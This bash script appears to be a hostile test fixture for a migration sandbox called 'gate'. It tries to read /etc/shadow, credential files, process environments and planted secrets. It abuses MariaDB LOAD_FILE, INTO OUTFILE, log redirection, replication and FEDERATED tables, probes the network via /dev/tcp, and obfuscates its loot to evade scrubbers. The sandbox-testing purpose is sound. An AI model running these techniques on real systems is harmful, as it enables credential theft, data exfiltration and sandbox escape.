#!/bin/bash
# A hostile migration for gate's sandbox test: before migrating, it tries
# to read, list and write the worker's files, reach the network and read
# files through the database, and prints what it got reversed, each byte
# shifted by 90 and base64-encoded ("loot LABEL DATA"), a form no
# scrubber can undo (reversed base64 alone it now does). Then it
# runs the real migration. Usage: hostile.sh TOKEN TARGET [USER]
# TOKEN names the files the test planted (/tmp/gate-plant-TOKEN.txt, ...)
# and the ones this script tries to write (gate-wrote-TOKEN); the test's
# root directory (dataset, key, index, --out) comes in GATE_HOSTILE_ROOT,
# its TCP listener's port in GATE_TEST_PORT: an attacker knows the
# tool's layout.
tok=$1
shift
loot() { # label, data on stdin
  printf 'loot %s %s\n' "$1" "$(head -c 65536 | rev | LC_ALL=C tr '\000-\377' '\132-\377\000-\131' | base64 -w0)"
}
root=${GATE_HOSTILE_ROOT:-/nonexistent}
sock=${MYSQL_UNIX_PORT:-/nonexistent}

# Known places, read by name.
for f in /tmp/gate-plant-$tok.txt /var/tmp/gate-plant-$tok.txt /srv/gate-plant-$tok.txt \
  /home/gate-plant-$tok/secret.txt /root/gate-plant-$tok.txt \
  "$root"/nova.key "$root"/nova.index "$root"/dataset/config.yaml "$root"/dataset/seed.sql \
  "$root"/dataset/notes.txt "$root"/other/seed.sql "$root"/out/result.json \
  /etc/passwd /etc/hosts /etc/hostname /etc/shadow /etc/mysql/debian.cnf \
  "$(dirname "$sock")"/error.log "$(dirname "$sock")"/data/slow.log; do
  [ -r "$f" ] && loot "file:$f" < "$f"
done
# Listings: the places named above, the parents of everything this step
# can see, and the usual suspects.
dirs="/ /tmp /var/tmp /srv /home /root /var /run /mnt /opt /work /etc $root $root/dataset $(dirname "$sock")"
d=$PWD
while [ "$d" != / ]; do d=$(dirname "$d"); dirs="$dirs $d"; done
for d in $dirs; do
  ls -la "$d" 2>/dev/null | loot "ls:$d"
done
echo "plain ls / : $(ls / | tr '\n' ' ')"
echo "plain ls socket dir : $(ls -A "$(dirname "$sock")" | tr '\n' ' ')"
# Every readable small file below them.
find /tmp /var/tmp /srv /home /root /run /mnt /opt "$root" -maxdepth 3 -type f -size -16k -readable 2>/dev/null | head -300 |
  while read -r f; do loot "find:$f" < "$f"; done
# Who else runs here, with what arguments and environment; this machine.
cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' ' ' | loot proc:cmdline
cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | loot proc:environ
env | loot env
{ hostname; uname -a; cat /proc/sys/kernel/hostname; } 2>/dev/null | loot host
# Files through the database server (FILE privilege).
for f in /srv/gate-plant-$tok.txt /tmp/gate-plant-$tok.txt "$root"/nova.key /etc/passwd; do
  mariadb --no-defaults --user="${2:-root}" -N -e "SELECT LOAD_FILE('$f')" 2>&1 | loot "db:$f"
done
mariadb --no-defaults --user="${2:-root}" -e "SELECT 'x' INTO OUTFILE '/tmp/gate-wrote-db-$tok'" 2>&1 | loot db:outfile
# The server runs outside this step: make it tell the machine's name,
# write its logs where we like, and reach the network for us
# (replication, a FEDERATED table).
mariadb --no-defaults --user="${2:-root}" -N -e "SELECT @@hostname" 2>&1 | loot db:hostname
mariadb --no-defaults --user="${2:-root}" -e "SET GLOBAL general_log_file='/tmp/gate-wrote-dblog-$tok'; SET GLOBAL general_log=1; SELECT 'owned'; SET GLOBAL general_log=0;
  SET GLOBAL slow_query_log_file='/var/tmp/gate-wrote-dbslow-$tok'; SET GLOBAL slow_query_log=1; SET SESSION long_query_time=0; SELECT 'owned'; SET GLOBAL slow_query_log=0" 2>&1 | loot db:logs
mariadb --no-defaults --user="${2:-root}" -e "CHANGE MASTER 'gate' TO MASTER_HOST='127.0.0.1', MASTER_PORT=$GATE_TEST_PORT, MASTER_USER='x', MASTER_CONNECT_RETRY=1;
  START SLAVE 'gate'; DO SLEEP(2); STOP SLAVE 'gate'; RESET SLAVE 'gate' ALL" 2>&1 | loot db:replication
mariadb --no-defaults --user="${2:-root}" "${GATE_DATABASE:-app}" -e "INSTALL SONAME 'ha_federatedx';
  CREATE TABLE gate_fx (a int) ENGINE=FEDERATED CONNECTION='mysql://x@127.0.0.1:$GATE_TEST_PORT/db/t'; SELECT * FROM gate_fx" 2>&1 | loot db:federated
mariadb --no-defaults --user="${2:-root}" "${GATE_DATABASE:-app}" -e "DROP TABLE IF EXISTS gate_fx" 2>/dev/null
# Writes.
for f in /tmp/gate-wrote-$tok /var/tmp/gate-wrote-$tok /srv/gate-wrote-$tok /home/gate-wrote-$tok \
  "$PWD"/gate-wrote-$tok "$root"/gate-wrote-$tok "$root"/dataset/gate-wrote-$tok "$(dirname "$sock")"/gate-wrote-$tok; do
  if echo owned 2>/dev/null > "$f"; then echo "plain wrote $f"; fi
done
# The network.
if (exec 3<>/dev/tcp/127.0.0.1/"$GATE_TEST_PORT") 2>/dev/null; then
  echo "plain tcp: connected to 127.0.0.1:$GATE_TEST_PORT"
else
  echo "plain tcp: blocked (port $GATE_TEST_PORT)"
fi
grep -E '^(NoNewPrivs|CapEff):' /proc/self/status | sed 's/^/plain /'
exec "$(dirname "$0")/migrate.sh" "$@"
